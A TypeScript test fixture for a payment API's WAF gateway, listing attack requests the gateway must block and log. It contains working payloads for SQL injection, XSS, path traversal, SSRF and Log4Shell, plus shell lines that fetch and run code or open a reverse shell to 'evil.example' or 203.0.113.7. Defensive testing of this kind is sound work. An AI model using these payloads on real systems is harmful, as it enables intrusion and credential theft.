// Attack requests we wrote ourselves for the WAF gateway tests (test/gateway.waf.test.ts):
// every one must be refused by the gateway and recorded as a security event. Each names its
// class and where the payload sits (query, body, header, path), so a miss says what is open.
// Targets are real API routes, so a request that slips through would reach real code.

export type AttackClass = 'sqli' | 'xss' | 'path_traversal' | 'command_injection' | 'ssrf' | 'log4shell' | 'protocol';
export type Place = 'query' | 'body' | 'header' | 'path' | 'method' | 'content_type';

export interface Attack {
  name: string;
  cls: AttackClass;
  place: Place;
  method: string;
  path: string;
  headers?: Record<string, string>;
  /** Sent as is (already JSON when the attack needs valid JSON). */
  body?: string;
  /** The status the client must get: 403 (blocked as an attack) unless stated. */
  expectStatus?: number;
}

const q = (s: string) => encodeURIComponent(s);
const payment = (fields: Record<string, unknown>) =>
  JSON.stringify({
    terminal_id: 'trm_0190f0b2c3d44e5f8a9b0c1d2e3f4a5b',
    amount: 100,
    currency: 'INR',
    method: 'upi_qr',
    ...fields,
  });

function inQuery(cls: AttackClass, name: string, payload: string, param = 'terminal_id'): Attack {
  return { name, cls, place: 'query', method: 'GET', path: `/v1/payments?${param}=${q(payload)}` };
}
function inBody(cls: AttackClass, name: string, payload: string, field = 'note'): Attack {
  return {
    name,
    cls,
    place: 'body',
    method: 'POST',
    path: '/v1/payments',
    headers: { 'content-type': 'application/json' },
    body: payment({ [field]: payload }),
  };
}
function inHeader(cls: AttackClass, name: string, header: string, payload: string): Attack {
  return { name, cls, place: 'header', method: 'GET', path: '/v1/payments', headers: { [header]: payload } };
}

const SQLI = [
  `' OR '1'='1`,
  `1' OR 1=1--`,
  `1 UNION SELECT username, password FROM identity.api_keys--`,
  `1; DROP TABLE payments.payments--`,
  `1' AND SLEEP(5)--`,
  `admin'--`,
  `1' AND (SELECT 1 FROM pg_sleep(5))--`,
  `x' UNION ALL SELECT NULL,version(),NULL--`,
];
const XSS = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(document.cookie)>`,
  `<svg/onload=alert(1)>`,
  `"><iframe src=javascript:alert(1)>`,
  `javascript:alert(document.domain)`,
  `<body onload=fetch('//evil.example/'+document.cookie)>`,
];
const TRAVERSAL = [
  `../../../../etc/passwd`,
  `....//....//....//etc/shadow`,
  `..%2f..%2f..%2fetc%2fpasswd`,
  `..\\..\\..\\windows\\win.ini`,
  `/proc/self/environ`,
];
const COMMANDS = [
  `; cat /etc/passwd`,
  `| id`,
  `&& curl http://evil.example/x.sh | sh`,
  `; nc -e /bin/sh 203.0.113.7 4444`,
  // Without spaces: what stock CRS at paranoia level 1 lets through.
  `;cat\${IFS}/etc/passwd`,
  `$(id)`,
  '`id`',
  `;id`,
  `|whoami`,
  `&&whoami`,
  `;{cat,/etc/passwd}`,
  `a;ls$IFS-la`,
  `;wget\${IFS}http://evil.example/x`,
  `x\nid`,
];
const SSRF = [
  `http://169.254.169.254/latest/meta-data/iam/security-credentials/`,
  `gopher://127.0.0.1:6379/_FLUSHALL`,
  `file:///etc/passwd`,
  `dict://127.0.0.1:11211/stats`,
  `http://localhost:8080/metrics`,
  `http://[::1]:8080/`,
  `http://0x7f000001/`,
  `http://metadata.google.internal/computeMetadata/v1/`,
  `ldap://127.0.0.1/o=tillpoint`,
  `http://10.0.0.5/internal`,
];
const LOG4SHELL = [
  `\${jndi:ldap://evil.example/a}`,
  `\${jndi:rmi://evil.example:1099/a}`,
  `\${jndi:dns://evil.example/a}`,
  `\${\${lower:j}ndi:ldap://evil.example/a}`,
  `\${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://evil.example/a}`,
  `\${\${env:NaN:-j}ndi\${env:NaN:-:}ldap://evil.example/a}`,
  `\${env:AWS_SECRET_ACCESS_KEY}`,
];

export const ATTACKS: Attack[] = [
  // ---- SQL injection
  ...SQLI.map((p, i) => inQuery('sqli', `sqli query ${i}`, p)),
  ...SQLI.slice(0, 5).map((p, i) => inBody('sqli', `sqli body note ${i}`, p)),
  inBody('sqli', 'sqli body terminal_id', `trm_1' OR '1'='1`, 'terminal_id'),
  inHeader('sqli', 'sqli user-agent', 'user-agent', `' OR 1=1--`),
  inHeader('sqli', 'sqli referer', 'referer', `http://x/?id=1' UNION SELECT password FROM users--`),
  inHeader('sqli', 'sqli idempotency-key', 'idempotency-key', `1' OR '1'='1`),
  { name: 'sqli path', cls: 'sqli', place: 'path', method: 'GET', path: `/v1/payments/${q(`1' OR '1'='1`)}` },
  // ---- XSS
  ...XSS.map((p, i) => inQuery('xss', `xss query ${i}`, p, 'cursor')),
  ...XSS.slice(0, 4).map((p, i) => inBody('xss', `xss body note ${i}`, p)),
  {
    name: 'xss body as JSON unicode escapes',
    cls: 'xss',
    place: 'body',
    method: 'POST',
    path: '/v1/payments',
    headers: { 'content-type': 'application/json' },
    body: payment({}).replace(/\}$/, ',"note":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'),
  },
  inHeader('xss', 'xss user-agent', 'user-agent', `<script>alert(1)</script>`),
  inHeader('xss', 'xss referer', 'referer', `http://x/"><script>alert(1)</script>`),
  {
    name: 'xss path',
    cls: 'xss',
    place: 'path',
    method: 'GET',
    path: `/v1/payments/${q('<script>alert(1)</script>')}`,
  },
  // ---- Path traversal
  ...TRAVERSAL.map((p, i) => inQuery('path_traversal', `traversal query ${i}`, p, 'cursor')),
  ...TRAVERSAL.slice(0, 3).map((p, i) => inBody('path_traversal', `traversal body ${i}`, p)),
  inHeader('path_traversal', 'traversal header', 'x-original-url', '/../../../etc/passwd'),
  {
    name: 'traversal path encoded',
    cls: 'path_traversal',
    place: 'path',
    method: 'GET',
    path: '/v1/payments/x/..%2f..%2fetc%2fpasswd',
  },
  // ---- Command injection (with and without spaces)
  ...COMMANDS.map((p, i) => inQuery('command_injection', `cmd query ${i}: ${JSON.stringify(p)}`, p)),
  ...COMMANDS.slice(4).map((p, i) => inBody('command_injection', `cmd body ${i}: ${JSON.stringify(p)}`, p)),
  inHeader('command_injection', 'shellshock user-agent', 'user-agent', '() { :; }; /bin/bash -c "id"'),
  inHeader('command_injection', 'cmd idempotency-key', 'idempotency-key', ';cat${IFS}/etc/passwd'),
  // ---- SSRF
  ...SSRF.map((p, i) => inQuery('ssrf', `ssrf query ${i}: ${p}`, p, 'cursor')),
  ...SSRF.map((p, i) => inBody('ssrf', `ssrf body ${i}: ${p}`, p)),
  // ---- Log4Shell-style lookups
  ...LOG4SHELL.map((p, i) => inHeader('log4shell', `log4shell user-agent ${i}`, 'user-agent', p)),
  inHeader('log4shell', 'log4shell x-api-version', 'x-api-version', LOG4SHELL[0]),
  inHeader('log4shell', 'log4shell referer', 'referer', LOG4SHELL[3]),
  inHeader('log4shell', 'log4shell idempotency-key', 'idempotency-key', LOG4SHELL[4]),
  inHeader('log4shell', 'log4shell accept-language', 'accept-language', LOG4SHELL[5]),
  inHeader('log4shell', 'log4shell authorization', 'authorization', `Bearer ${LOG4SHELL[0]}`),
  ...LOG4SHELL.slice(0, 3).map((p, i) => inQuery('log4shell', `log4shell query ${i}`, p, 'cursor')),
  ...LOG4SHELL.slice(3).map((p, i) => inBody('log4shell', `log4shell body ${i}`, p)),
  // ---- Protocol violations
  { name: 'method not allowed (PROPFIND)', cls: 'protocol', place: 'method', method: 'PROPFIND', path: '/v1/payments' },
  {
    name: 'content type not allowed (XML)',
    cls: 'protocol',
    place: 'content_type',
    method: 'POST',
    path: '/v1/payments',
    headers: { 'content-type': 'text/xml' },
    body: '<payment><amount>100</amount></payment>',
  },
  {
    name: 'form body',
    cls: 'protocol',
    place: 'content_type',
    method: 'POST',
    path: '/v1/payments',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'amount=100&currency=INR',
  },
  {
    name: 'charset UTF-7',
    cls: 'protocol',
    place: 'content_type',
    method: 'POST',
    path: '/v1/payments',
    headers: { 'content-type': 'application/json; charset=utf-7' },
    body: payment({}),
  },
  {
    name: 'body without content type',
    cls: 'protocol',
    place: 'content_type',
    method: 'POST',
    path: '/v1/payments',
    headers: { 'content-type': '' },
    body: payment({}),
  },
  {
    name: 'GET with a body',
    cls: 'protocol',
    place: 'body',
    method: 'GET',
    path: '/v1/payments',
    headers: { 'content-type': 'application/json' },
    body: '{"status":"succeeded"}',
  },
  {
    name: 'null byte in query',
    cls: 'protocol',
    place: 'query',
    method: 'GET',
    path: '/v1/payments?status=pending%00',
  },
  {
    name: 'invalid UTF-8 in query',
    cls: 'protocol',
    place: 'query',
    method: 'GET',
    path: '/v1/payments?cursor=%C0%AF%C0%AF',
  },
  {
    name: 'CRLF response splitting',
    cls: 'protocol',
    place: 'query',
    method: 'GET',
    path: `/v1/payments?cursor=${q('x\r\nSet-Cookie: session=attacker')}`,
  },
  {
    name: 'request smuggling in a parameter',
    cls: 'protocol',
    place: 'query',
    method: 'GET',
    path: `/v1/payments?cursor=${q('1\r\n\r\nGET /metrics HTTP/1.1\r\nHost: x')}`,
  },
  {
    name: 'CRLF in a parameter name',
    cls: 'protocol',
    place: 'query',
    method: 'GET',
    path: `/v1/payments?${q('x\r\nLocation: http://evil.example')}=1`,
  },
  {
    name: 'unparseable JSON hiding a payload',
    cls: 'protocol',
    place: 'body',
    method: 'POST',
    path: '/v1/payments',
    headers: { 'content-type': 'application/json' },
    body: `{"note": "' OR 1=1--", "terminal_id": `,
    expectStatus: 400,
  },
];
